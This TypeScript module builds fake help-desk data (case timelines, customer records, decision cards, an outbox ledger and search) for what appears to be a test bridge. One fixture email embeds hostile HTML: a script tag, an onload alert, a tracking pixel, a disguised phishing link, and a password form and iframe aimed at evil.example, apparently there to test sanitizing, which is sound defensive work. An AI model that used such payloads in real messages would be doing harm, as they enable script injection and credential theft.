// What lies in a case for the fake bridge: messages, notes, events, drafts, a card that needs a decision, and search.
import type { CaseRow } from '#shared/domain/case.ts';
import type { CustomerRow } from '#shared/domain/customer.ts';
import type { DraftContent, DraftRow } from '#shared/domain/draft.ts';
import type { CustomerId, IntentId, ItemId } from '#shared/domain/ids.ts';
import type { EventItem, EventType, ItemRow, MessageItem, NoteItem } from '#shared/domain/item.ts';
import type { CallInput, CallOutput } from '#shared/ipc/contract.ts';
import type { LedgerRow, NeedsYouCard, SearchHit, TimelineItem } from '#shared/ipc/views.ts';
import { customers, idOf, reference } from './fakeRows.ts';

const minute = 60_000;
const mail = `<html><head><style>body{background:url(https://t.example/a.gif)}</style><script>parent.document.title='owned'</script></head><body onload="alert(1)">
<p>Hi Anna,</p><p style="color:#0a6;position:fixed;top:0">Thank you for looking into this. <b>Yes</b>, the card ending 4471 still works.</p>
<img src="https://tracker.example/open.gif?id=1" width="1" height="1"><img src="https://cdn.shop.example/banner.png" alt="Our winter sale" width="300">
<p>See <a href="https://bank.example.evil.example/login">https://bank.example</a> or <a href="https://vestmere.example/help">vestmere.example/help</a>.</p>
<form action="https://evil.example"><input name="password"></form><iframe src="https://evil.example"></iframe>
<blockquote type="cite"><p>Dear Eleanor, I can see both payments.</p></blockquote></body></html>`;

export interface Thread {
  detail: (row: CaseRow) => Pick<CallOutput<'case.get'>, 'customer' | 'drafts' | 'readN' | 'needsYou'>;
  items: (row: CaseRow) => TimelineItem[];
  customer: (id: CustomerId) => CustomerRow;
  cards: (cases: readonly CaseRow[]) => NeedsYouCard[];
  outbox: (cases: readonly CaseRow[]) => CallOutput<'outbox.list'>;
  find: (cases: readonly CaseRow[], query: string) => SearchHit[];
  apply: (act: CallInput<'intent.submit'>, row: CaseRow) => void;
}

export function makeThread(now: number): Thread {
  const drafts = new Map<string, DraftRow>();
  const added = new Map<string, TimelineItem[]>();
  const read = new Map<string, number>();
  const settled = new Set<string>();
  const agent = (n: number) => reference.agents[n]?.id ?? reference.me.id;
  const customer = (id: CustomerId): CustomerRow => {
    const name = customers[Number.parseInt(id.slice(-4), 16) % customers.length] ?? '';
    return {
      id,
      name,
      company: null,
      addresses: [
        { type: 'email', value: `${name.split(' ')[0]?.toLowerCase() ?? ''}@mail.example` },
        { type: 'phone', value: '+44 20 7946 0184' },
      ],
      notes: 'Prefers to be called after six.',
      since: new Date(2019, 2, 4).getTime(),
      rev: 1,
    };
  };
  const base = (row: CaseRow, n: number, ago: number) => ({
    id: `${row.id.slice(0, 30)}${n.toString(16).padStart(6, '0')}` as ItemId,
    caseId: row.id,
    n,
    at: now - ago * minute,
    intentId: null,
    rev: 1,
  });
  const message = (
    row: CaseRow,
    n: number,
    ago: number,
    text: string,
    more: Partial<MessageItem> = {},
  ): MessageItem => {
    const who = customer(row.customerId ?? (idOf(5, 0) as CustomerId));
    const from = { name: who.name, address: who.addresses[0]?.value ?? '' };
    const inbox = { name: 'Vestmere', address: 'inbox@vestmere.example' };
    const out = more.direction === 'out';
    return {
      ...base(row, n, ago),
      kind: 'message',
      direction: 'in',
      agentId: null,
      customerId: row.customerId,
      from: out ? inbox : from,
      to: [out ? from : inbox],
      cc: [],
      subject: row.subject,
      text,
      html: null,
      attachments: [],
      messageId: `<${n}.${row.number ?? 0}@mail.example>`,
      inReplyTo: null,
      automatic: false,
      notice: '',
      delivery: null,
      ...more,
    };
  };
  const event = (
    row: CaseRow,
    n: number,
    ago: number,
    type: EventType,
    params: EventItem['params'] = {},
    by = agent(0),
  ): EventItem => ({ ...base(row, n, ago), kind: 'event', agentId: by, event: type, params });
  const note = (row: CaseRow, n: number, ago: number, text: string): NoteItem => ({
    ...base(row, n, ago),
    kind: 'note',
    agentId: agent(4),
    text,
    html: null,
    attachments: [],
  });

  function items(row: CaseRow): TimelineItem[] {
    const rows: ItemRow[] = [
      message(
        row,
        1,
        3000,
        'Good evening,\n\nmy bank statement shows two payments of €13.99 on 14 November. Can you return one of them?',
      ),
      event(row, 2, 2900, 'taken'),
      message(row, 3, 2880, 'Dear Eleanor,\n\nI can see both payments and have asked our finance team.', {
        direction: 'out',
        agentId: agent(0),
        delivery: { state: 'sent', sendAfter: null, at: now - 2879 * minute, detail: '' },
      }),
      note(row, 4, 1200, '@Anna the second payment is real. Order 7731 renewed on the old card.'),
      event(
        row,
        5,
        1190,
        'forwarded',
        {
          from: idOf(2, 1),
          to: idOf(2, 0),
          dueType: idOf(3, 0),
          dueAt: now + 2880 * minute,
          message: 'Please return the second payment.',
        },
        agent(4),
      ),
      event(row, 6, 900, 'act_superseded', {
        verb: 'take',
        reason: 'owned',
        by: agent(1),
        at: now - 910 * minute,
      }),
      message(
        row,
        7,
        25,
        'Hi Anna,\n\nThank you for looking into this. Yes, the card ending 4471 still works.\n\n> Dear Eleanor, I can see both payments.',
        {
          html: mail,
          attachments: [
            {
              hash: 'b'.repeat(64) as never,
              name: 'statement-november.pdf',
              type: 'application/pdf',
              size: 96_000,
              cid: null,
            },
          ],
        },
      ),
    ];
    return [...rows.map((item) => ({ item, place: 'server' as const })), ...(added.get(row.id) ?? [])];
  }
  const ledger = (row: CaseRow, id: number, name: string, more: Partial<LedgerRow> = {}): LedgerRow => ({
    id: idOf(9, id) as IntentId,
    name,
    caseId: row.id,
    caseNumber: row.number,
    subject: row.subject,
    params: {
      number: row.number ?? '',
      subject: row.subject,
      customer: 'Eleanor Whitcombe',
      to: 'Eleanor Whitcombe',
      inbox: 'Finance',
      status: 'solved',
      words: 'Card checked',
    },
    state: 'waiting',
    reason: null,
    madeAt: now - 90 * minute,
    endedAt: null,
    dependsOn: null,
    underWay: false,
    waitsFor: null,
    resolution: null,
    ...more,
  });

  function cards(cases: readonly CaseRow[]): NeedsYouCard[] {
    const [first, second] = [cases[5], cases[6]];
    if (first === undefined || second === undefined) return [];
    const text =
      'Hei Astrid,\n\nTakk for meldingen. Jeg har rettet navnet på fakturaen.\n\nVennlig hilsen\nAnna';
    const args = {
      caseId: first.id,
      itemId: idOf(8, 77),
      to: [{ name: 'Astrid Berge', address: 'astrid@mail.example' }],
      cc: [],
      subject: `Re: ${first.subject}`,
      text,
      html: '<p>Hei Astrid,</p><p>Takk for meldingen. Jeg har rettet navnet på fakturaen.</p><p>Vennlig hilsen<br>Anna</p>',
      attachments: [],
      answersId: null,
      draftId: null,
      draftRev: 0,
      askedOwner: false,
    };
    const all: NeedsYouCard[] = [
      {
        row: ledger(first, 1, 'reply', {
          state: 'parked',
          endedAt: now - 5 * minute,
          reason: { code: 'newer_public', by: agent(1), at: now - 40 * minute, params: { direction: 'out' } },
        }),
        customerName: 'Astrid Berge',
        words: { text, html: args.html, attachments: 0 },
        args,
        sawItem: message(first, 1, 3000, 'Hei'),
        meanwhile: [
          event(first, 8, 50, 'taken', {}, agent(1)),
          message(first, 9, 40, 'Hei Astrid! Jeg har byttet navnet for deg.', {
            direction: 'out',
            agentId: agent(1),
          }),
        ],
        choices: ['keep_as_note', 'hand_over', 'send_as_follow_up', 'send_anyway', 'discard'],
      },
      {
        row: ledger(second, 2, 'forward', {
          state: 'parked',
          endedAt: now - 4 * minute,
          reason: {
            code: 'entry_ended',
            by: agent(4),
            at: now - 30 * minute,
            params: { state: 'completed' },
          },
        }),
        customerName: 'Aleksandra Dąbrowska',
        words: { text: 'Please correct the invoice.', html: null, attachments: 0 },
        args: {
          caseId: second.id,
          entryId: idOf(6, 6),
          toInboxId: idOf(2, 1),
          toAgentId: null,
          dueTypeId: idOf(3, 0),
          dueAt: null,
          message: 'Please correct the invoice.',
          keepOpen: false,
          anew: false,
        },
        sawItem: null,
        meanwhile: [event(second, 8, 30, 'completed', { inbox: idOf(2, 0) }, agent(4))],
        choices: ['forward_anyway', 'drop'],
      },
    ];
    return all.filter(({ row }) => !settled.has(row.id));
  }

  return {
    items,
    customer,
    cards,
    detail: (row) => ({
      customer: row.customerId === null ? null : customer(row.customerId),
      drafts: [...drafts.values()].filter((draft) => draft.caseId === row.id),
      readN: read.get(row.id) ?? 5,
      needsYou: [],
    }),
    outbox(cases) {
      const row = cases[0];
      if (row === undefined)
        return {
          sums: { made: 0, applied: 0, superseded: 0, withdrawn: 0, decided: 0, needYou: 0, waiting: 0 },
          needYou: [],
          waiting: [],
          ended: [],
        };
      const waiting = [
        ledger(row, 11, 'reply'),
        ledger(row, 12, 'status', { dependsOn: idOf(9, 11) as IntentId }),
        ledger(row, 13, 'take', { underWay: true }),
      ];
      const ended = [
        ledger(row, 14, 'take', {
          state: 'superseded',
          endedAt: now,
          reason: { code: 'owned', by: agent(1), at: now - minute, params: {} },
          resolution: 'let_go',
        }),
        ledger(row, 15, 'note', { state: 'applied', endedAt: now }),
      ];
      const needYou = cards(cases).map((card) => card.row);
      return {
        sums: {
          made: 5 + needYou.length,
          applied: 1,
          superseded: 1,
          withdrawn: 0,
          decided: 0,
          needYou: needYou.length,
          waiting: 3,
        },
        needYou,
        waiting,
        ended,
      };
    },
    find(cases, query) {
      const word = query.toLowerCase();
      return cases
        .filter((row) => row.subject.toLowerCase().includes(word))
        .slice(0, 100)
        .map((row) => {
          const at = row.subject.toLowerCase().indexOf(word);
          return {
            caseId: row.id,
            itemId: null,
            number: row.number,
            subject: row.subject,
            customerName: customer(row.customerId ?? (idOf(5, 0) as CustomerId)).name,
            status: row.status,
            place: row.place,
            inboxId: row.inboxId,
            ownerId: row.ownerId,
            excerpt: row.subject,
            marks: [[at, at + word.length]],
            at: row.updatedAt,
          };
        });
    },
    apply({ name, args, resolves }, row) {
      if (resolves !== null) settled.add(resolves.intentId);
      const put = (item: ItemRow) =>
        added.set(row.id, [...(added.get(row.id) ?? []), { item, place: 'device' }]);
      if (name === 'draft') {
        const id = String(args['draftId']);
        const content = args['content'] as DraftContent | null;
        if (content === null) drafts.delete(id);
        else
          drafts.set(id, {
            ...content,
            id: id as DraftRow['id'],
            agentId: reference.me.id,
            caseId: row.id,
            updatedAt: Date.now(),
            handedBy: null,
            branchOf: null,
            rev: drafts.get(id)?.rev ?? 0,
          });
      } else if (name === 'reply' || name === 'note') {
        drafts.delete(String(args['draftId']));
        const made = { ...base(row, 0, 0), id: args['itemId'] as ItemId, n: null, at: Date.now() };
        const words = {
          text: String(args['text']),
          html: args['html'] as string,
          attachments: args['attachments'] as [],
        };
        if (name === 'note') put({ ...made, kind: 'note', agentId: reference.me.id, ...words });
        else
          put({
            ...message(row, 0, 0, ''),
            ...made,
            ...words,
            direction: 'out',
            agentId: reference.me.id,
            to: args['to'] as [],
          });
      } else if (name === 'tag')
        row.tags =
          args['add'] === true
            ? [...row.tags, String(args['tag'])]
            : row.tags.filter((tag) => tag !== args['tag']);
      else if (name === 'status') row.status = args['to'] as CaseRow['status'];
      else if (name === 'read') read.set(row.id, Number(args['n']));
    },
  };
}
